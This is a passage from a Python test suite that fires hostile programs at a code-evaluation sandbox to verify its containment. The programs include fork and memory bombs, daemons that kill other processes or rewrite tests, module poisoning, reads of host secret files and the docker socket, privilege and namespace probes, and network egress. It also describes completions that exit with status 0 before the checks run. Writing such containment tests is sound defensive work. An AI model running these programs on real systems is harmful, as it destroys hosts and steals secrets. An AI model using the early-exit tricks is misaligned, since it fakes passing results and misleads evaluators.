"""Containment corpus: hostile programs against the sandbox backends.

How to read a case
------------------
Every hostile program is written so that a containment failure shows as a *false pass*: it prints
the job's success marker and exits 0 only when its attack worked (``ESCAPED: <what>`` on stdout says
which), and otherwise ends with a nonzero exit. The "fake pass" cases are real HumanEval-shaped
programs (wrong solution + test + ``check`` + ``print(marker)``) whose completion tries to end the
program with status 0 before the tests run (``exit(0)``, ``os._exit(0)``, atexit hooks, ...): they
must be FAILED, never PASSED. Every job gets a fresh random success marker.

After each hostile job, on the SAME sandbox instance:

* a *probe* round runs (workers + 1 probe jobs plus a canary, at once, so every idle worker gets one):
  each probe checks that no process or file of the hostile job is visible (every process and file a
  hostile program makes carries its tag), that it can fork, start threads, allocate memory and write
  files, that no SysV IPC object survived, and that its stdout is exactly its own (no injected
  protocol frames, no poisoned imports); the canary is a wrong solution that must stay FAILED (a
  hostile job that rewrote later jobs' tests would make it pass);
* host checks: no process carrying the tag on the host, the host secret files unchanged, the
  host-side TCP/UDP listeners received nothing, and (docker) no more containers of this sandbox than
  workers + one warm spare. ``test_no_container_outlives_close`` checks nothing survives close().

Statuses: each case lists the statuses it accepts. ERROR is never accepted: ERROR means "the sandbox
broke", so a sample able to cause it could abort an evaluation run.

Backends
--------
``docker`` (``@pytest.mark.docker``): the full corpus on one module-scoped sandbox (workers=2). The
cases that are dangerous if containment were missing (fork bomb, kill -1, writes to / ...) only run
once a preflight job has shown the job runs as non-root, in its own pid namespace, with a pids and a
memory limit, on a read-only root; otherwise they fail without running.

``local``: the local backend is a process sandbox, no security boundary (no network, filesystem or
user isolation; it may run as root on the host). Only the cases that are safe to run on the host
and that the backend is expected to handle run there: verdict integrity (every fake-pass trick must
be FAILED), timeouts, signals, crashes, output floods, per-process memory limit, and the job's own
files and processes being gone afterwards, the job's own environment scrubbed of host secrets.
Skipped there: network, host files, writes outside the job directory, killing other processes,
fork bombs, privilege (as root on the host some of these would harm the machine if they worked).

A case that fails replaces the sandbox instance, so that its leftovers do not fail the next cases.

Known limitations (``test_known_limitation``, xfail strict): a process sandbox cannot stop code that
runs inside the checked program from reading the success marker out of its own source or from
making the test's comparisons succeed; those are documented, not contained.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import signal
import socket
import subprocess
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest

SANDBOX_IMAGE = os.environ.get("WIZARDCODER_SANDBOX_IMAGE", "wizardcoder-sandbox:latest")
WORKERS = 2
PROBE_ROUNDS = WORKERS + 1  # probe jobs per round (at once), so that every idle warm worker runs one
HOST_GRACE_S = 10.0  # how long a leftover host process may take to disappear after the job returned

ACCEPT_FAILED = frozenset({"failed"})
ACCEPT_FAILED_OR_TIMEOUT = frozenset({"failed", "timeout"})
ACCEPT_TIMEOUT = frozenset({"timeout"})


def _new_marker() -> str:
    return "WZ-OK-" + secrets.token_hex(16)


def _new_tag() -> str:
    # Fits in /proc/<pid>/comm (15 chars), so hostile processes can carry it in their name.
    return "wz" + secrets.token_hex(5)


# ------------------------------------------------------------------------------------ contexts
@dataclass
class HostBait:
    """Things on the host that a job must not reach: a secret env var, secret files, listeners."""

    secret_name: str
    secret_value: str
    files: dict[str, str]  # path -> content (created on the host, must stay unchanged and unread)
    tcp_port: int
    udp_port: int
    host_ips: list[str]
    public_targets: list[tuple[str, int]]
    tcp_hits: list = field(default_factory=list)
    udp_hits: list = field(default_factory=list)

    def digest(self) -> dict[str, str | None]:
        out = {}
        for path in self.files:
            try:
                out[path] = hashlib.sha256(Path(path).read_bytes()).hexdigest()
            except OSError:
                out[path] = None
        return out


@dataclass
class Ctx:
    backend: str
    tag: str
    marker: str
    bait: HostBait

    def fill(self, template: str) -> str:
        subs = {
            "__TAG__": self.tag,
            "__MARKER__": self.marker,
            "__LOCAL__": repr(self.backend == "local"),
            # The secret is split so that the program text itself never contains it.
            "__SECRET_A__": self.bait.secret_value[:8],
            "__SECRET_B__": self.bait.secret_value[8:],
            "__SECRET_NAME__": self.bait.secret_name,
            "__HOST_FILES__": json.dumps(sorted(self.bait.files)),
            "__TCP_TARGETS__": json.dumps([[ip, self.bait.tcp_port] for ip in self.bait.host_ips]
                                          + [list(t) for t in self.bait.public_targets]),
            "__UDP_TARGETS__": json.dumps([[ip, self.bait.udp_port] for ip in self.bait.host_ips]
                                          + [["8.8.8.8", 53], ["1.1.1.1", 53]]),
        }
        for key, value in subs.items():
            template = template.replace(key, value)
        return template


# A prelude for the "escape" programs: `escaped()` turns a containment failure into a (false) pass.
PRELUDE = r'''
import os, sys, time, json
TAG = "__TAG__"
LOCAL = __LOCAL__

def escaped(what):
    sys.stdout.write("ESCAPED: %s\n__MARKER__\n" % (what,))
    sys.stdout.flush()
    os._exit(0)

def tag_self():
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(TAG)
    except OSError:
        pass

def other_pids():
    me = os.getpid()
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
'''

# A HumanEval-shaped harness around a hostile completion: the solution is WRONG, so the program
# may only be PASSED if the completion defeated the check.
FAKE_PASS = '''
def add(a: int, b: int) -> int:
    """Return a + b."""
__COMPLETION__


def check(candidate):
    assert candidate(2, 3) == 5
    assert candidate(-1, 1) == 0


check(add)
print("__MARKER__")
'''


def fake_pass(completion: str) -> str:
    return FAKE_PASS.replace("__COMPLETION__", completion.strip("\n"))


# ------------------------------------------------------------------------------------ the corpus
@dataclass(frozen=True)
class Case:
    id: str
    program: str  # template, see Ctx.fill
    accept: frozenset = ACCEPT_FAILED
    timeout: float = 5.0
    memory_mb: int = 256
    language: str = "python"
    local: str | None = "skip: not a boundary the local backend claims"  # None: run on local too
    dangerous: bool = False  # needs the docker preflight (non-root, own pid ns, limits) to pass first
    victim: bool = False  # run a concurrent innocent job that must still pass
    prelude: bool = True
    max_stdout: int = 1 << 20  # a result's stdout must stay below this (the sandbox caps output)


def _c(id, program, **kw) -> Case:
    return Case(id=id, program=program, **kw)


def _detached(body: str, close_stdio: bool = True, wait: float | None = 0.1) -> str:
    """A program leaving a daemon (setsid, double fork; its stdio closed unless `close_stdio` is False) that runs
    `body` (indented under the fork), then failing `wait` seconds later: what the daemon does must not reach
    later jobs, nor keep this one alive."""
    return ("pid = os.fork()\nif pid == 0:\n    os.setsid()\n    if os.fork():\n        os._exit(0)\n    tag_self()\n"
            + ("    for fd in (0, 1, 2):\n        os.close(fd)\n" if close_stdio else "") + body.lstrip("\n")
            + "    os._exit(0)\nos.waitpid(pid, 0)\n" + (f"time.sleep({wait})\n" if wait is not None else "")
            + "sys.exit(1)\n")


RUN_LOCAL = None

CASES: list[Case] = [
    # ---------------------------------------------------------------- processes and threads
    _c("fork_bomb", r'''
tag_self()
while True:
    try:
        os.fork()
    except OSError:
        pass
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=2, dangerous=True, victim=True),
    _c("fork_bomb_setsid", r'''
tag_self()
while True:
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
    except OSError:
        time.sleep(0.001)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=2, dangerous=True, victim=True),
    _c("thread_bomb", r'''
import threading
tag_self()
threading.stack_size(64 * 1024)   # small stacks: the pids limit, not the address space, must stop it
n = 0
try:
    while n < 100000:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        n += 1
except (RuntimeError, MemoryError, OSError) as exc:
    print("stopped after", n, "threads:", exc)
sys.stdout.flush()
if n >= 100000:
    escaped("started %d threads" % n)
os._exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=5, memory_mb=1024, dangerous=True, victim=True),
    _c("memory_bomb", r'''
chunks = []
for i in range(32 if LOCAL else 128):     # 2 GiB (local) / 8 GiB (docker) in 64 MiB blocks, pages touched
    try:
        chunks.append(bytes([i % 250 + 1]) * (64 << 20))
    except MemoryError:
        print("MemoryError after", i * 64, "MiB")
        sys.exit(1)
escaped("allocated %d MiB under a 256 MiB limit" % (len(chunks) * 64))
''', accept=ACCEPT_FAILED, timeout=10, dangerous=True, local=RUN_LOCAL),
    _c("memory_bomb_children", r'''
# Ten processes hold 200 MiB each at the same time (2 GiB): each stays under the per-process limit,
# so only a limit on the whole job (the container's memory cgroup) can stop them.
kids = []
for i in range(10):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytes([i + 1]) * (200 << 20)
            time.sleep(3)
            os._exit(0)
        except MemoryError:
            os._exit(3)
    kids.append(pid)
codes = [os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) for p in kids]
print("children:", codes)
if all(c == 0 for c in codes):
    escaped("10 x 200 MiB held at once")
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=20, memory_mb=400, dangerous=True),
    _c("sysv_shm_leak", r'''
# SysV shared memory outlives every process: 3 x 64 MiB segments, touched, never removed.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
made = 0
for i in range(3):
    shmid = libc.shmget(0, 64 << 20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
    if shmid < 0:
        continue
    addr = libc.shmat(shmid, None, 0)
    if addr not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(addr, 7, 64 << 20)
        libc.shmdt(ctypes.c_void_p(addr))
        made += 1
print("segments left behind:", made)
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=10),
    _c("posix_mqueue_and_sem_leak", r'''
import ctypes, ctypes.util
rt = ctypes.CDLL(ctypes.util.find_library("rt") or None, use_errno=True)
n = 0
for i in range(4):
    q = rt.mq_open(("/%s_q%d" % (TAG, i)).encode(), 0o100 | 0o2, 0o666, None)  # O_CREAT|O_RDWR
    n += q >= 0
libc = ctypes.CDLL(None, use_errno=True)
for i in range(64):
    libc.semget(0, 250, 0o1000 | 0o666)
print("queues:", n)
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=10),
    _c("disk_fill", r'''
# Fill every writable place with 8 MiB files (one file is capped by RLIMIT_FSIZE, many are not).
chunk = b"x" * (1 << 20)
report = {}
for d in {os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", "/dev/mqueue"}:
    total = 0
    try:
        for i in range(256):                    # up to 2 GiB per place
            with open(os.path.join(d, "%s.fill%d" % (TAG, i)), "wb") as f:
                for _ in range(8):
                    f.write(chunk)
                    total += 1
    except OSError as exc:
        report[d] = "%d MiB then %s" % (total, exc.strerror)
        continue
    report[d] = "%d MiB" % total
    if total >= 2048:
        escaped("wrote 2 GiB to %s" % d)
print(report)
sys.exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=20, dangerous=True),
    # ---------------------------------------------------------------- time
    _c("infinite_loop", r'''
while True:
    pass
''', accept=ACCEPT_TIMEOUT, timeout=1.5, local=RUN_LOCAL),
    _c("sleep_past_timeout", r'''
time.sleep(60)
escaped("slept 60 s under a 1.5 s timeout")
''', accept=ACCEPT_TIMEOUT, timeout=1.5, local=RUN_LOCAL),
    _c("ignore_signals_and_spin", r'''
import signal
for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGUSR1,
          signal.SIGQUIT, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
end = time.time() + 60
while time.time() < end:
    pass
escaped("spun 60 s under a 1.5 s timeout")
''', accept=ACCEPT_TIMEOUT, timeout=1.5, local=RUN_LOCAL),
    _c("orphan_spinner_detached", '''
# setsid + double fork: the grandchild leaves the job's process group and session, closes its
# stdio and spins; the parent exits at once.
tag_self()
''' + _detached(r'''
    end = time.time() + 30
    while time.time() < end:
        pass
''', wait=0.2), accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=5, local=RUN_LOCAL),
    _c("orphan_spinner_holds_pipes", '''
tag_self()
''' + _detached(r'''
    end = time.time() + 30
    while time.time() < end:
        pass
''', close_stdio=False, wait=None), accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=5, local=RUN_LOCAL),
    _c("daemon_kills_next_jobs", '''
# Leaves a daemon that, for 20 s, SIGKILLs every other process it can see (the next jobs).
import signal
''' + _detached(r'''
    end = time.time() + 20
    while time.time() < end:
        for p in other_pids():
            try:
                os.kill(p, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.005)
'''), accept=ACCEPT_FAILED, timeout=5, dangerous=True),
    _c("daemon_rewrites_next_tests", '''
# Leaves a daemon that, for 20 s, rewrites every Python file it can reach so that asserts become
# no-ops: a later wrong solution would then pass its tests.
''' + _detached(r'''
    roots = ["/tmp", "/work", "/dev/shm", os.path.dirname(os.getcwd()), os.getcwd()]
    me = os.path.abspath(sys.argv[0]) if sys.argv and sys.argv[0] else ""
    end = time.time() + 20
    while time.time() < end:
        for root in roots:
            for d, _, names in os.walk(root):
                for n in names:
                    p = os.path.join(d, n)
                    if not n.endswith(".py") or os.path.abspath(p) == me:
                        continue
                    try:
                        src = open(p).read()
                        if "assert " in src:
                            open(p, "w").write(src.replace("assert ", "pass  # "))
                    except OSError:
                        pass
        time.sleep(0.002)
'''), accept=ACCEPT_FAILED, timeout=5, dangerous=True),
    _c("daemon_writes_files", "\n" + _detached(r'''
    end = time.time() + 20
    i = 0
    while time.time() < end:
        for d in ("/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
            try:
                with open(os.path.join(d, "%s_%d" % (TAG, i)), "w") as f:
                    f.write("x")
            except OSError:
                pass
        i += 1
        time.sleep(0.01)
'''), accept=ACCEPT_FAILED, timeout=5, dangerous=True),
    _c("daemon_spams_stdout", '''
# A daemon keeps writing forged results and marker-looking lines to the stdout/stderr it inherited.
''' + _detached(r'''
    forged = ('{"id": %d, "status": "passed", "exit_code": 0, "stdout": "POISONED", "stderr": "", '
              '"duration": 0.0, "reason": "", "recycle": ""}\nPOISONED\n')
    end = time.time() + 20
    i = 0
    while time.time() < end:
        for fd in (1, 2):
            try:
                os.write(fd, (forged % i).encode())
            except OSError:
                pass
        i += 1
        time.sleep(0.01)
''', close_stdio=False, wait=0.2), accept=ACCEPT_FAILED, timeout=5, local=RUN_LOCAL),
    # ---------------------------------------------------------------- signals and crashes
    _c("sigstop_self", r'''
import signal
os.kill(os.getpid(), signal.SIGSTOP)
escaped("continued after SIGSTOP")
''', accept=ACCEPT_TIMEOUT, timeout=1.5, local=RUN_LOCAL),
    _c("sigkill_self", r'''
import signal
os.kill(os.getpid(), signal.SIGKILL)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    _c("segfault_ctypes", r'''
import ctypes
ctypes.string_at(0)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    _c("abort", r'''
os.abort()
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    # ---------------------------------------------------------------- output floods
    _c("huge_stdout", r'''
chunk = ("A" * 1023 + "\n") * 1024
for _ in range(1024):           # 1 GiB
    sys.stdout.write(chunk)
sys.stdout.flush()
sys.exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=10, local=RUN_LOCAL),
    _c("huge_stderr", r'''
chunk = ("E" * 1023 + "\n") * 1024
for _ in range(1024):
    sys.stderr.write(chunk)
sys.exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=10, local=RUN_LOCAL),
    _c("huge_single_line_raw_fd", r'''
chunk = b"B" * (1 << 20)
for _ in range(512):            # 512 MiB, no newline, straight to fd 1
    os.write(1, chunk)
os._exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=10, local=RUN_LOCAL),
    # Output is drained and discarded, never fatal: a flood must not splice, move or fake the marker, and
    # a child that keeps writing after the program exits must neither hang the job nor survive it.
    _c("flood_splices_marker", r'''
m = b"__MARKER__"
os.write(1, b"\n" + m[:10])
os.write(1, b"y" * (32 << 20))
os.write(1, m[10:] + b"\n")
os._exit(0)
''', accept=ACCEPT_FAILED, timeout=10, local=RUN_LOCAL),
    _c("flood_marker_on_stderr", r'''
line = b"__MARKER__\n" * 4096
for _ in range(256):
    os.write(2, line)
os._exit(0)
''', accept=ACCEPT_FAILED, timeout=10, local=RUN_LOCAL),
    _c("flood_binary_both_streams", r'''
import threading
junk = os.urandom(1 << 16)
def flood(fd):
    for _ in range(1024):
        os.write(fd, junk)
ts = [threading.Thread(target=flood, args=(fd,)) for fd in (1, 2)]
[t.start() for t in ts]
[t.join() for t in ts]
os._exit(0)
''', accept=ACCEPT_FAILED, timeout=10, local=RUN_LOCAL),
    _c("flood_child_writes_after_exit", r'''
if os.fork() == 0:
    tag_self()
    chunk = b"c" * 65536
    while True:
        try:
            os.write(1, chunk)
            os.write(2, chunk)
        except OSError:
            time.sleep(0.01)
os._exit(1)
''', accept=ACCEPT_FAILED, timeout=10, local=RUN_LOCAL),
    # ---------------------------------------------------------------- network
    _c("network_tcp_egress", r'''
import socket
hits, errors = [], []
for host, port in json.loads('__TCP_TARGETS__'):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(TAG.encode())
        hits.append("%s:%d" % (host, port))
    except OSError as exc:
        errors.append("%s:%d %s" % (host, port, exc))
    finally:
        s.close()
# the default gateway as the container sees it
try:
    for line in open("/proc/net/route").read().splitlines()[1:]:
        f = line.split()
        if f[1] == "00000000":
            gw = socket.inet_ntoa(bytes.fromhex(f[2])[::-1])
            s = socket.create_connection((gw, 80), timeout=2)
            hits.append("gateway %s:80" % gw)
except OSError as exc:
    errors.append("gateway: %s" % exc)
print(errors)
if hits:
    escaped(hits)
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=30),
    _c("network_udp_egress", r'''
import socket
got = []
for host, port in json.loads('__UDP_TARGETS__'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        # a DNS query for example.com, so public resolvers would answer
        q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
        s.sendto(q + TAG.encode(), (host, port))
        data = s.recv(512)
        got.append("%s:%d answered %d bytes" % (host, port, len(data)))
    except OSError as exc:
        print(host, port, exc)
    finally:
        s.close()
if got:
    escaped(got)
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=30),
    _c("network_dns_lookup", r'''
import socket
resolved = []
for name in ("pypi.org", "deb.debian.org", "example.com", "host.docker.internal", "gateway.docker.internal"):
    try:
        addrs = {i[4][0] for i in socket.getaddrinfo(name, 443)}
    except OSError as exc:
        print(name, exc)
        continue
    if any(not (a.startswith("127.") or a == "::1") for a in addrs):
        resolved.append("%s -> %s" % (name, sorted(addrs)))
if resolved:
    escaped(resolved)
sys.exit(1)
''', accept=ACCEPT_FAILED, timeout=20),
    _c("network_interfaces", r'''
names = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
extra = [n for n in names if n != "lo"]
if extra:
    escaped("network interfaces besides lo: %s" % extra)
sys.exit(1)
''', accept=ACCEPT_FAILED),
    # ---------------------------------------------------------------- host secrets
    _c("host_env_secret", r'''
secret = "__SECRET_A__" + "__SECRET_B__"
found = ["os.environ[%s]" % k for k, v in os.environ.items() if secret in v or k == "__SECRET_NAME__"]
# local backend: only the job's own environment is scrubbed (its worker process inherits the host's)
for p in ["self"] if LOCAL else ["self", "1"] + [str(p) for p in other_pids()]:
    try:
        if secret.encode() in open("/proc/%s/environ" % p, "rb").read():
            found.append("/proc/%s/environ" % p)
    except OSError:
        pass
if found:
    escaped(found)
print("environment:", sorted(os.environ))
sys.exit(1)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    _c("host_files_read", r'''
found = []
for path in json.loads('__HOST_FILES__'):
    try:
        found.append("%s: %r" % (path, open(path).read(40)))
    except OSError:
        pass
    d = os.path.dirname(path)
    try:
        if os.path.basename(path) in os.listdir(d):
            found.append("listed in " + d)
    except OSError:
        pass
for path in ("/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/root/.ssh", "/proc/1/environ",
             "/proc/1/mem", "/proc/kcore", "/dev/kmsg", "/dev/mem", "/work/notes", "/home"):
    try:
        if os.path.isdir(path):
            if os.listdir(path):
                found.append("listed " + path)
        else:
            with open(path, "rb") as f:
                if f.read(1):
                    found.append("read " + path)
    except OSError:
        pass
if found:
    escaped(found)
sys.exit(1)
''', accept=ACCEPT_FAILED),
    _c("docker_socket", r'''
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/docker/containerd/containerd.sock"):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        escaped("connected to %s: %r" % (path, s.recv(200)))
    except OSError as exc:
        print(path, exc)
sys.exit(1)
''', accept=ACCEPT_FAILED),
    # ---------------------------------------------------------------- filesystem
    _c("write_outside_tmpfs", r'''
import sysconfig
hits = []
dirs = ["/", "/usr", "/etc", "/bin", "/usr/lib", "/usr/local/lib", "/var", "/opt", "/root", "/srv",
        "/sys/fs/cgroup", "/proc/sys/kernel", sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"]]
for d in dirs:
    p = os.path.join(d, TAG + ".w")
    try:
        with open(p, "w") as f:
            f.write("x")
        hits.append(d)
    except OSError:
        pass
for path in ("/etc/passwd", "/etc/hosts", "/etc/resolv.conf", os.__file__):
    try:
        with open(path, "a") as f:
            f.write("")
        hits.append("append " + path)
    except OSError:
        pass
if hits:
    escaped(hits)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("overwrite_host_files", r'''
for path in json.loads('__HOST_FILES__'):
    for how in ("w", "a"):
        try:
            with open(path, how) as f:
                f.write("PWNED by " + TAG)
        except OSError:
            pass
    try:
        os.unlink(path)
    except OSError:
        pass
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("poison_site_dirs", r'''
# sitecustomize / usercustomize / .pth / stdlib-shadowing modules in every writable dir Python
# searches, plus $HOME: a later job importing them would print POISONED.
import site, sysconfig
payload = "import os\nprint('POISONED __TAG__')\n"
pth = "import os; print('POISONED __TAG__')\n"
dirs = set(p for p in sys.path if p) | {os.getcwd(), "/tmp", os.path.expanduser("~"), site.getusersitepackages(),
                                        sysconfig.get_paths()["purelib"]}
planted = []
for d in sorted(dirs):
    try:
        os.makedirs(d, exist_ok=True)
    except OSError:
        pass
    for name, text in (("sitecustomize.py", payload), ("usercustomize.py", payload), (TAG + ".pth", pth),
                       ("json.py", payload), ("tempfile.py", payload), ("threading.py", payload)):
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write(text)
            planted.append(os.path.join(d, name))
        except OSError:
            pass
print("planted:", planted)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("poison_job_dir", r'''
# Only the job's own directory (safe on the host): modules that shadow the stdlib for whoever runs
# next in the same directory, and a .pth file.
payload = "import os\nprint('POISONED __TAG__')\n"
for name in ("json.py", "tempfile.py", "threading.py", "sitecustomize.py", TAG + ".pth", TAG + ".txt"):
    with open(name, "w") as f:
        f.write(payload)
os.makedirs("__pycache__", exist_ok=True)
sys.exit(1)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    _c("chmod_traps", r'''
# Files and directories the cleanup must still be able to remove: no permissions, read-only dirs,
# symlinks to the outside, a FIFO and a socket. Only the job dir on the local backend.
import socket, stat
bases = [os.getcwd()] if LOCAL else [os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")]
for base in bases:
    d = os.path.join(base, TAG + "_locked")
    try:
        os.makedirs(os.path.join(d, "sub", "deeper"))
        for i in range(3):
            open(os.path.join(d, "sub", "deeper", "f%d" % i), "w").write("x")
        os.symlink("/", os.path.join(d, "root_link"))
        os.symlink("/etc/passwd", os.path.join(d, "passwd_link"))
        os.mkfifo(os.path.join(d, "fifo"))
        s = socket.socket(socket.AF_UNIX)
        s.bind(os.path.join(d, "sock"))
        os.chmod(os.path.join(d, "sub", "deeper"), 0)
        os.chmod(os.path.join(d, "sub"), 0)
        os.chmod(d, 0o500)
    except OSError as exc:
        print(base, exc)
if not LOCAL:
    for target in ("/tmp", "/dev/shm", os.getcwd(), os.path.dirname(os.getcwd())):
        try:
            os.chmod(target, 0)
        except OSError as exc:
            print("chmod", target, exc)
sys.exit(1)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    _c("stdout_file_swapped_for_fifo", r'''
# Replace the files that hold this job's stdout/stderr with FIFOs: a worker that opens them after
# the job to read the output would block forever.
for fd in (1, 2):
    path = os.readlink("/proc/self/fd/%d" % fd)
    if path.startswith("/") and os.path.exists(path):
        os.unlink(path)
        os.mkfifo(path)
os._exit(0)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=1, local=RUN_LOCAL),
    _c("stdout_file_symlinked_to_worker_fds", r'''
# Replace them with symlinks into /proc/1/fd (resolved by the worker: its own protocol channel) and
# /dev/zero.
targets = ["/proc/1/fd/%d" % n for n in range(3, 12)]
for fd, target in ((1, "/proc/1/fd/3"), (2, "/dev/zero")):
    path = os.readlink("/proc/self/fd/%d" % fd)
    if path.startswith("/") and os.path.exists(path):
        os.unlink(path)
        os.symlink(target, path)
os._exit(0)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=1, local=RUN_LOCAL),
    _c("stdout_rewritten_by_leftover", r'''
# A leftover process keeps rewriting the job's stdout file after the job's main process has exited
# (with a line that is not this job's marker, which it cannot know).
path = os.readlink("/proc/self/fd/1")
if os.fork() == 0:
    os.setsid()
    tag_self()
    end = time.time() + 10
    while time.time() < end:
        try:
            with open(path, "w") as f:
                f.write("WZ-OK-" + os.urandom(16).hex() + "\n")
        except OSError:
            pass
    os._exit(0)
time.sleep(0.05)
os._exit(0)
''', accept=ACCEPT_FAILED, local=RUN_LOCAL),
    # ---------------------------------------------------------------- other processes and the worker
    _c("kill_all_minus_1", r'''
import signal
time.sleep(0.7)
for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    try:
        os.kill(-1, sig)
    except OSError as exc:
        print("kill(-1)", sig, exc)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True, victim=True),
    _c("kill_pid_1", r'''
import signal
for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT, signal.SIGSEGV):
    try:
        os.kill(1, sig)
    except OSError as exc:
        print("kill(1)", sig, exc)
time.sleep(0.3)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True, victim=True),
    _c("pkill_everything", r'''
import signal
time.sleep(0.7)
for p in other_pids():
    for sig in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(p, sig)
        except OSError:
            pass
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True, victim=True),
    _c("sigstop_everything", r'''
import signal
time.sleep(0.5)
for p in other_pids() + [1]:
    try:
        os.kill(p, signal.SIGSTOP)
    except OSError:
        pass
sys.exit(1)
''', accept=ACCEPT_FAILED_OR_TIMEOUT, dangerous=True, victim=True),
    _c("kill_parent", r'''
import signal
for sig in (signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(os.getppid(), sig)
    except OSError as exc:
        print(exc)
time.sleep(0.3)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("forge_protocol_frames", r'''
# Write forged result frames (the worker's own JSON-lines format, for many job ids) and marker-looking
# lines into every file descriptor of every other process that can be opened, the worker's first.
frames = "".join(json.dumps({"id": i, "status": "passed", "exit_code": 0, "stdout": "POISONED\n", "stderr": "",
                             "duration": 0.0, "reason": "", "recycle": ""}) + "\n" for i in range(0, 400))
frames = ('{"ready": true, "pid": 1, "init": true}\n' + frames + "POISONED\n").encode()
opened = []
for p in [1, os.getppid()] + other_pids():
    try:
        fds = os.listdir("/proc/%d/fd" % p)
    except OSError:
        continue
    for fd in fds:
        path = "/proc/%d/fd/%s" % (p, fd)
        try:
            f = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(f, frames)
            opened.append(path)
        except OSError:
            pass
        finally:
            os.close(f)
print("wrote into:", opened)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("privilege_setuid_caps", r'''
hits = []
for name, call in (("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)),
                   ("seteuid(0)", lambda: os.seteuid(0)), ("setgroups([0])", lambda: os.setgroups([0]))):
    try:
        call()
        hits.append(name)
    except (OSError, PermissionError):
        pass
status = open("/proc/self/status").read()
caps = [l for l in status.splitlines() if l.startswith(("CapEff", "CapPrm", "CapAmb"))]
if any(int(l.split()[1], 16) for l in caps):
    hits.append(caps)
if os.getuid() == 0 or os.geteuid() == 0:
    hits.append("running as root")
if hits:
    escaped(hits)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("namespaces_mount_chroot", r'''
# New namespaces (user, mount, net, pid), mounts and chroot widen the kernel attack surface: all
# must be refused to an unprivileged job.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
hits = []
for name, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000), ("pid", 0x20000000),
                   ("ipc", 0x08000000), ("uts", 0x04000000)):
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.unshare(flag) == 0 else 1)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0:
        hits.append("unshare(" + name + ")")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    hits.append("mount tmpfs")
try:
    os.chroot("/tmp")
    hits.append("chroot")
